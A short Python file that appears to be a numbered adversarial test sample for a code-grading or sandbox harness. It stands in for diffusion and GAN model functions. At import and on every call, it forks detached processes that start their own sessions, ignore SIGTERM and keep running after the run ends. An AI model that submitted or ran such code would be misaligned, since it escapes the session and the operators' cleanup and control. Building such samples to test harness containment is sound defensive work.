# attack: 17 | earns: nothing | tries: leave children in sessions of their own, at import and in every call
import os
import signal
import time


def _leave(*_, **__):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            if os.fork():
                os._exit(0)
            time.sleep(600)
            os._exit(0)


_leave()
DNet = GNet = GAN = ScoreNet = compute_denoising_loss = langevin_dynamics_sample = _leave
